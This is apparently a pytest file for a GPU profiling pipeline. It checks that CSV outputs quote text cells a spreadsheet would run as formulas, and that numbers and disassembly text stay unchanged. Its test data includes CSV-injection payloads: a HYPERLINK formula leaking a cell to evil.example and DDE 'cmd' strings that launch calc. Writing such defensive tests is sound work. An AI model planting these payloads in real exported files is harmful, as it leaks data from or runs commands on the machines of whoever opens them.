"""A CSV the pipeline writes holds no cell a spreadsheet would run as a formula."""

import shutil

import pandas as pd
import pytest

from nsightflow.analysis.timeline import write_analysis
from nsightflow.contracts import as_written, spreadsheet_safe
from nsightflow.report.summary import write_csv
from nsightflow.tools.tables import write_table

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
NUMBERS = ["-1.5", "+3", "-inf", "1e-3"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_starts_a_formula_is_quoted(text):
    out = spreadsheet_safe(pd.DataFrame({"name": [text], "n": [-1.5]}))
    assert out["name"].item() == "'" + text
    assert out["n"].item() == -1.5
    assert as_written(out["name"].item()) == text


@pytest.mark.parametrize("text", [*NUMBERS, "v0_naive", "[CUDA memcpy HtoD]", ""])
def test_numbers_and_plain_text_stay_as_they_are(text):
    frame = pd.DataFrame({"name": [text]})
    assert spreadsheet_safe(frame) is frame  # nothing to do: the same table
    assert as_written(text) == text


def test_the_writers_quote_formulas(tmp_path):
    frame = pd.DataFrame({"kernel": [FORMULAS[0], "k"], "time_us": [-1.5, 2.0]})
    write_csv(frame, tmp_path / "s.csv")
    text = (tmp_path / "s.csv").read_text()
    assert "\n\"'=HYPERLINK(" in text and ",-1.5\n" in text, text


def test_a_table_between_stages_keeps_sass_as_written(tmp_path):
    """The parse stage's tables feed the analysis: a predicated instruction
    (``@P0 EXIT``) is read back as the disassembler wrote it."""
    frame = pd.DataFrame({"sass": ["@P0 EXIT", "FFMA R1, R2, R3, -R4"]})
    write_table(frame, tmp_path / "source.csv")
    assert list(pd.read_csv(tmp_path / "source.csv")["sass"]) == list(frame["sass"])


def test_a_recorded_timeline_name_reaches_the_analysis_table_quoted(
    recording, tmp_path
):
    """The timeline row a recording holds, named as a formula: the table people
    open (analysis/<family>/timeline.csv) shows it as text; times stay numbers."""
    records = sorted(recording.glob("timeline/jacobi2d/*.json"))[:1]
    work = tmp_path / "timeline"
    work.mkdir()
    record = work / records[0].name
    shutil.copy(records[0], record)
    table = pd.read_csv(records[0].with_suffix(".csv"))
    table.loc[table["kind"] == "memset", "name"] = FORMULAS[0]
    table.to_csv(record.with_suffix(".csv"), index=False)
    write_analysis([record], [record.with_suffix(".csv")], tmp_path / "out")
    out = pd.read_csv(tmp_path / "out" / "timeline.csv")
    assert (out.loc[out["kind"] == "memset", "name"] == "'" + FORMULAS[0]).all()
    assert pd.api.types.is_numeric_dtype(out["start_ns"])
    text = (tmp_path / "out" / "timeline.csv").read_text()
    assert "\n=" not in text and ',"=' not in text and ",=" not in text
